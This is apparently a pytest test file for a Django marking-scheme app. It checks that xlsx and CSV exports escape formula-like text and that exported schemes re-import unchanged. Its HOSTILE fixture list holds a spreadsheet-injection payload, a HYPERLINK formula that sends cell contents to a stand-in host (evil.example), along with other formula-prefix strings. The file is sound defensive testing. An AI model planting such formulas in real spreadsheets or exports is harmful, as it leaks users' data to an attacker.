"""X-5 / MS-5 (issue 13 §6): the marking-scheme export (xlsx and CSV) never writes user text a spreadsheet
would run as a formula; every cell goes through ``core.spreadsheets.safe_cell``, and an exported scheme read
back by the import keeps its text."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from profmaster.marking import domain, xlsx
from profmaster.marking.models import Aspect, Criterion, MarkingScheme

HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"Нажмите")', "+1", "-1", "@x", "\tTab", "\rCR"]


@pytest.fixture
def hostile_scheme(scheme):
    criterion = Criterion.objects.get(scheme=scheme, code="A")
    criterion.title = HOSTILE[0]
    criterion.save()
    aspects = list(Aspect.objects.filter(sub_criterion__criterion__scheme=scheme).order_by("code"))
    aspects[0].description = HOSTILE[1]
    aspects[1].description = HOSTILE[2]
    aspects[2].description = HOSTILE[3]
    aspects[0].descriptors = [HOSTILE[4], HOSTILE[5], "@SUM(1+1)", "обычный текст"]
    for aspect in aspects:
        aspect.save()
    return scheme


def _formula_like(text: str) -> bool:
    return text.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_x5_scheme_xlsx_escapes_formula_like_text(hostile_scheme):
    data = xlsx.export_scheme(domain.drafts(hostile_scheme))
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula cell at all
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if _formula_like(t)]
    for hostile in [*HOSTILE, "@SUM(1+1)"]:  # XML reads a carriage return back as a line feed
        assert "'" + hostile.replace("\r", "\n") in texts
    assert sheet["I2"].value == 2  # the maximum stays a number cell


def test_x5_scheme_csv_escapes_formula_like_text(client, hostile_scheme, panel):
    chief, _ = panel
    client.force_login(chief)
    response = client.get(f"/marking/schemes/{hostile_scheme.pk}/export.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = response.content.decode("utf-8-sig")
    import csv

    rows = list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))
    assert rows[0] == xlsx.HEADERS
    fields = [f for row in rows[1:] for f in row]
    assert not [f for f in fields if _formula_like(f)]
    for hostile in [*HOSTILE, "@SUM(1+1)"]:
        assert "'" + hostile in fields
    assert rows[1][8] == "2,00"


def test_x5_scheme_csv_decimal_comma(scheme):
    aspect = Aspect.objects.get(code="B1.1")
    aspect.kind, aspect.max_points, aspect.descriptors = "discrete", Decimal("1.50"), []
    aspect.levels = [["нет", "0"], ["да", "1.5"]]
    aspect.save()
    body = xlsx.export_scheme_csv(domain.drafts(scheme)).decode("utf-8-sig")
    line = next(line for line in body.splitlines() if line.startswith("B;"))
    assert line == 'B;Критерий B;1;B1;Суб;B1.1;И-Д;Аккуратность;1,50;;;;;"нет=0; да=1,5"'


def test_x5_scheme_export_reimports_with_the_same_text(client, hostile_scheme, panel):
    chief, _ = panel
    before = domain.drafts(hostile_scheme)
    exported = xlsx.export_scheme(before)
    result = xlsx.read_scheme(exported)
    assert result.errors == []
    # CR and tab are trimmed by the import like any surrounding whitespace; the rest is as it was
    assert result.criteria[0].title == HOSTILE[0]
    assert [a.description for c in result.criteria for s in c.sub_criteria for a in s.aspects] == ["+1", "-1", "@x"]
    client.force_login(chief)
    other = MarkingScheme.objects.create(competency=hostile_scheme.competency, stage=hostile_scheme.stage,
                                         age_category=hostile_scheme.competency.championship.age_categories.create(
                                             code="x", name="X", grade_min=1, grade_max=2), title="Копия")
    client.post(f"/marking/schemes/{other.pk}/import/", {"file": SimpleUploadedFile("scheme.xlsx", exported)})
    assert Criterion.objects.get(scheme=other, code="A").title == HOSTILE[0]
